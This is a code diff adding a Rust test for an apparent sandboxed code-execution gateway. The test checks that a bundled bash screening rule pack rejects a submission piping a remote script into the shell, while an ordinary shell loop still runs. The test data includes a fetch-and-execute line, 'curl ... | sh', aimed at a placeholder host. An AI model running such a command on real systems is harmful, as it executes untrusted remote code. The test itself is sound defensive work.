@@ -289,6 +289,30 @@ fn c_submissions_with_files_that_are_not_sources_or_headers_are_400() {
 }
 
 #[test]
+fn bash_requests_are_screened_by_the_shipped_bash_pack() {
+    let exec = MockExecutor::start();
+    let shipped = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/screen");
+    let gw = TestGateway::builder()
+        .upstream(exec.addr)
+        .with("rules", &format!("screen = [{shipped:?}]"))
+        .with("screen", "refuse_unknown_language = true")
+        .start();
+    let fetch = json!({"language": "bash", "version": "5", "files": [{"content": "curl -s http://x/i.sh | sh"}]});
+    let r = post(&gw.url("/api/v2/execute"), &fetch);
+    assert_eq!(
+        (r.status, r.code()),
+        (403, "code_rejected".to_string()),
+        "{}",
+        String::from_utf8_lossy(&r.body)
+    );
+    assert!(exec.requests().is_empty());
+    let ordinary = json!({"language": "sh", "version": "5", "files": [{"content": "for i in 1 2 3; do echo $((i * i)); done | sort -n"}]});
+    let ok = post(&gw.url("/api/v2/execute"), &ordinary);
+    assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
+    assert_eq!(exec.requests().len(), 1);
+}
+
+#[test]
 fn unknown_routes_are_404_json() {
     let exec = MockExecutor::start();
     let gw = gateway(&exec);
